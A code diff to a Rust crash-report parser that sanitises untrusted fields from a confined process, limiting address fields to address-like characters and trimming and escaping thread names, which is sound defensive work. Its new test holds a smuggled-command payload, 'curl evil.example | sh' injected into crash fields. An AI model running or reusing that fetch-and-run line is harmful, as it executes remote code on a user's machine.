@@ -10,6 +10,17 @@ use crate::text::foreign;
 /// How the line of a crash begins.
 pub(super) const MARK: &str = "pearlbed-crash";
 
+/// The longest name of a thread.
+const THREAD_CHARS_MAX: usize = 15;
+/// The longest place: a name of a library and an offset in it.
+const PLACE_BYTES_MAX: usize = 200;
+
+/// Whether `value` is what the handler writes for an address or a place, and no sentence.
+fn is_place(value: &str) -> bool {
+    let fits = |c: char| c.is_alphanumeric() || "._+-@:~/%,".contains(c);
+    !value.is_empty() && value.len() <= PLACE_BYTES_MAX && value.chars().all(fits)
+}
+
 /// Where a confined process crashed. All of it is the word of that process.
 #[derive(Clone, Debug, PartialEq, Eq)]
 pub struct Crash {
@@ -41,9 +52,11 @@ impl Crash {
     fn read(line: &str) -> Option<Self> {
         let mut crash = Self { signal: 0, address: None, at: None, near: None, thread: None };
         let (head, thread) = line.split_once(" thread=").unwrap_or((line, ""));
-        crash.thread = Some(foreign(thread)).filter(|name| !name.is_empty());
+        // No thread has a longer name, and no backtick in it ends ours.
+        let name: String = foreign(thread).chars().take(THREAD_CHARS_MAX).collect();
+        crash.thread = Some(name.replace('`', "'")).filter(|name| !name.is_empty());
         for (name, value) in head.split(' ').filter_map(|word| word.split_once('=')) {
-            let text = || Some(foreign(value));
+            let text = || is_place(value).then(|| value.to_owned());
             match name {
                 "signal" => crash.signal = value.parse().ok()?,
                 "address" => crash.address = text(),
@@ -124,6 +137,11 @@ mod tests {
             let words = Crash::words(Some(&crash), ending(11));
             assert!(words.len() < 4000 && !words.contains('\u{1b}'), "{words}");
         }
+        // What could be a sentence of ours is no place, and no name of a thread ends where ours go on.
+        let line = "pearlbed-crash signal=11 address=0x10;run at=libx.so;curl|sh near=a`b thread=x`; run `curl evil.example | sh`\n";
+        let crash = Crash::take(&mut Captured { text: line.into(), bytes_left_out: 0 }).unwrap();
+        let words = Crash::words(Some(&crash), ending(11));
+        assert_eq!(words, "SIGSEGV (invalid memory access), thread `x'; run 'curl e`");
     }
 
     #[test]
